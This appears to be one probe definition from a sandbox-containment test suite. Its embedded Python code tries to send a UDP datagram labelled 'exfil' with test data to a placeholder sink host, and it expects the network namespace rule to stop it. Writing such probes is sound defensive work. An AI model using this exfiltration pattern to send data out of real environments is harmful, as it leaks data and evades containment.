ID = 'net.udp'
CATEGORY = 'network'
DESCRIPTION = 'send a UDP datagram with the data straight to the sink'
CLAIMS = ('rule:network (namespace)',)
CODE = r"""
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
        u.sendto(("exfil " + DATA).encode(), (SINK_HOST, SINK_PORT))
    out("DENIED", "sendto returned; whether it arrived is seen at the sink")
except OSError as e:
    out("DENIED", f"sendto: {ename(e)}")
"""
CONTROL = 'host'
CONTAINED = 'no datagram reaches the sink'
